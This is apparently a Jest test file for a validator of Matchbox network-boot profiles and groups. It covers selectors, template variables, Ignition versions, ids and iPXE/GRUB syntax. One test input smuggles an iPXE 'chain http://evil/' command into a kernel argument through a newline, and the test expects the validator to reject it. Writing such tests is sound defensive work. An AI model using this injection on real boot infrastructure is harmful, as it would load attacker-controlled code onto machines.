import { Problem } from '../../../src/validation/errors';
import { MatchboxDataSpec, MatchboxGroupSpec, MatchboxProfileSpec } from '../../../src/matchbox/model';
import { isGrubWord } from '../../../src/matchbox/grub';
import { renderBootIpxe } from '../../../src/matchbox/ipxe';
import { MATCHBOX_RELEASES } from '../../../src/matchbox/release';
import { providedVariables, validateMatchbox } from '../../../src/matchbox/validate';
import { placedActions } from '../../../src/matchbox/values';
import { SEED003 } from './seed003.fixture';

const PATH = 'lab/matchbox';
const base: MatchboxProfileSpec = { id: 'p', boot: { kernel: '/assets/k', initrd: ['/assets/i'], args: [] } };
const check = (data: Partial<MatchboxDataSpec>) => validateMatchbox({ profiles: [base], groups: [], ...data }, PATH);
/** Where a problem is: the subject's kind and id, and the property as written in the construct props. */
const where = (p: Problem) => [p.subject?.kind, p.subject?.id, p.property];
const props = (data: Partial<MatchboxDataSpec>) => check(data).map(where);
const group = (id: string, extra: Partial<MatchboxGroupSpec> = {}): MatchboxGroupSpec => ({
  id,
  profile: 'p',
  ...extra,
});

describe('validateMatchbox', () => {
  it('accepts seed 003 as re-expressed', () => {
    expect(validateMatchbox(SEED003, PATH)).toEqual([]);
  });

  it('every problem carries the caller path, a reason and a fix', () => {
    const found = check({ groups: [group('a', { profile: 'missing' })] });
    expect(found).toEqual([
      expect.objectContaining({
        path: PATH,
        subject: { kind: 'group', id: 'a' },
        property: 'profile',
        value: 'missing',
        reason: expect.stringMatching(/no profile with this id/),
        fix: 'use one of: p',
      }),
    ]);
  });

  it('two default groups (empty selector) are ambiguous', () => {
    const found = check({ groups: [group('d1'), group('d2', { selector: {} })] });
    expect(found.map((p) => [where(p), p.reason])).toEqual([
      [['group', 'd2', 'selector'], expect.stringMatching(/second default group .*"d1"/)],
    ]);
  });

  it('identical selectors (after MAC normalization) are ambiguous', () => {
    const found = check({
      groups: [
        group('a', { selector: { mac: '52:54:00:89:d8:10' } }),
        group('b', { selector: { mac: '52-54-00-89-D8-10' } }),
      ],
    });
    expect(found.map((p) => [where(p), p.reason])).toEqual([
      [['group', 'b', 'selector'], expect.stringMatching(/same selector as group "a"/)],
    ]);
    expect(props({ groups: [group('a', { selector: { os: 'x' } }), group('b', { selector: { os: 'y' } })] })).toEqual(
      [],
    );
  });

  it('a MAC Go cannot parse makes Matchbox skip the group', () => {
    expect(props({ groups: [group('a', { selector: { mac: '52:54:00:89:d8' } })] })).toEqual([
      ['group', 'a', 'selector.mac'],
    ]);
    // Hyphen and dotted forms are fine: Matchbox normalizes them.
    expect(props({ groups: [group('a', { selector: { mac: '5254.0089.d810' } })] })).toEqual([]);
  });

  it('a reserved selector key in another case never matches iPXE labels', () => {
    const found = check({ groups: [group('a', { selector: { MAC: '52:54:00:89:d8:10' } })] });
    expect(found.map((p) => p.fix)).toEqual(['spell the key "mac"']);
  });

  it('selector values must be strings', () => {
    const selector = { rack: 3 } as unknown as Record<string, string>;
    expect(check({ groups: [group('a', { selector })] }).map((p) => [where(p), p.value])).toEqual([
      [['group', 'a', 'selector.rack'], 3],
    ]);
  });

  it('template variables no group provides are reported per group (missingkey=error)', () => {
    const profile: MatchboxProfileSpec = {
      ...base,
      generic: 'key={{.ssh_authorized_key}} mac={{.mac}} q={{.request.raw_query}} {{if index . "opt"}}{{.opt}}{{end}}',
    };
    const found = check({
      profiles: [profile],
      groups: [
        group('ok', { selector: { MAC: '52:54:00:89:d8:10' }, metadata: { ssh_authorized_key: 'k' } }),
        group('bad', { metadata: {} }),
      ],
    });
    // `MAC` still lower-cases into {{.mac}}; `request` is built in; `opt` is optional.
    expect(found.map(where)).toEqual([
      ['group', 'ok', 'selector.MAC'],
      ['group', 'bad', 'metadata.mac'],
      ['group', 'bad', 'metadata.ssh_authorized_key'],
    ]);
  });

  it('.mac/.uuid are NOT built in: only a selector provides them', () => {
    expect([...providedVariables(group('x'))]).toEqual(['request']);
    expect([...providedVariables(group('x', { selector: { Uuid: 'u' }, metadata: { k: 1 } }))].sort()).toEqual([
      'k',
      'request',
      'uuid',
    ]);
  });

  it('templated raw Ignition is flagged: Matchbox serves .ign files unrendered', () => {
    const found = check({
      profiles: [{ ...base, ignition: { users: [{ name: 'core', sshAuthorizedKeys: ['{{.ssh_authorized_key}}'] }] } }],
    });
    expect(found.map((p) => [where(p), p.reason])).toEqual([
      [['profile', 'p', 'ignition'], expect.stringMatching(/without rendering Go templates/)],
    ]);
  });

  it('raw Ignition strings must be JSON in the spec the release serves .ign files as (v0.11.0: 3.4.0)', () => {
    expect(props({ profiles: [{ ...base, ignition: '{"ignition":' }] })).toEqual([['profile', 'p', 'ignition']]);
    expect(props({ profiles: [{ ...base, ignition: '{"ignition":{"version":"2.3.0"}}' }] })).toEqual([
      ['profile', 'p', 'ignition.ignition.version'],
    ]);
    expect(props({ profiles: [{ ...base, ignition: '{"ignition":{"version":"3.3.0"}}' }] })).toEqual([
      ['profile', 'p', 'ignition.ignition.version'],
    ]);
    expect(props({ profiles: [{ ...base, ignition: '{"ignition":{"version":"3.4.0"}}' }] })).toEqual([]);
    // v0.9.1 serves the file as written: any spec the machine takes.
    expect(
      validateMatchbox(
        { profiles: [{ ...base, ignition: '{"ignition":{"version":"3.3.0"}}' }], groups: [], version: 'v0.9.1' },
        PATH,
      ),
    ).toEqual([]);
  });

  it('builder problems inside a profile config are reported with the profile property', () => {
    expect(props({ profiles: [{ ...base, generic: { units: [{ name: 'nosuffix' }] } }] })).toEqual([
      ['profile', 'p', 'generic.units[0].name'],
    ]);
  });

  it('kernel/initrd must be absolute http(s) or under /assets/', () => {
    const profile: MatchboxProfileSpec = {
      id: 'p',
      boot: {
        kernel: 'assets/k',
        initrd: ['--name main /assets/ok', 'ftp://x/i', 'https://mirror/i'],
        args: ['a\nchain http://evil/'],
      },
    };
    expect(check({ profiles: [profile] }).map(where)).toEqual([
      ['profile', 'p', 'kernel'],
      ['profile', 'p', 'initrd[1]'],
      ['profile', 'p', 'args[0]'],
    ]);
  });

  it('ids must be usable file names and unique; metadata "request" is overwritten', () => {
    const found = props({
      profiles: [base, { ...base }, { id: '../x' }],
      groups: [
        group('a/b'),
        group('g', { selector: { os: 'x' }, metadata: { request: 1, os: 'y' } }),
        group('g', { selector: { os: 'z' } }),
      ],
    });
    expect(found).toEqual([
      ['profile', 'p', 'id'],
      ['profile', '../x', 'id'],
      ['group', 'a/b', 'id'],
      ['group', 'g', 'metadata.request'],
      ['group', 'g', 'metadata.os'],
      ['group', 'g', 'id'],
    ]);
  });
});

describe('where template actions write (placedActions) and what a release models', () => {
  it('tells JSON strings, data: URLs and single-quoted script words apart', () => {
    const text =
      '{"a":"x{{.a}}","n":{{.n}},"s":"data:,%23!/bin/sh%0Aecho%20\'{{.q | urlquery}}\'%20{{.u | urlquery}}"}\n{{if .c}}{{end}}';
    expect(placedActions(text).map((a) => [a.body, a.writer, a.jsonString, a.dataUrl, a.shellQuoted, a.paths])).toEqual(
      [
        ['.a', undefined, true, false, false, [['a']]],
        ['.n', undefined, false, false, false, [['n']]],
        ['.q | urlquery', 'urlquery', true, true, true, [['q']]],
        ['.u | urlquery', 'urlquery', true, true, false, [['u']]],
      ],
    );
    // Not JSON (a cloud-config): no JSON context at all.
    expect(placedActions('#cloud-config\nhostname: "{{.h}}"\n')[0]).toMatchObject({
      jsonString: false,
      dataUrl: false,
    });
  });

  it("GRUB words follow GRUB's lexer", () => {
    for (const ok of ['console=ttyS0', '"a&b"', "'x y'", 'x=${net_default_mac}', 'a\\;b', '"u=${net_default_ip}"'])
      expect(isGrubWord(ok)).toBe(true);
    for (const bad of ['a&b', 'x=${mac:hexhyp}', 'a b', 'fi', '{', 'a;b', '"unclosed', '"${mac:hexhyp}"'])
      expect(isGrubWord(bad)).toBe(false);
  });

  it('an unmodelled release is one problem; each modelled one has its /boot.ipxe', () => {
    expect(validateMatchbox({ ...SEED003, version: 'v0.8.3' }, PATH).map((p) => [p.property, p.value])).toEqual([
      ['version', 'v0.8.3'],
    ]);
    expect(MATCHBOX_RELEASES.map((r) => [r.version, renderBootIpxe(r.version).includes('&arch=')])).toEqual([
      ['v0.9.1', false],
      ['v0.10.0', false],
      ['v0.11.0', true],
    ]);
  });
});
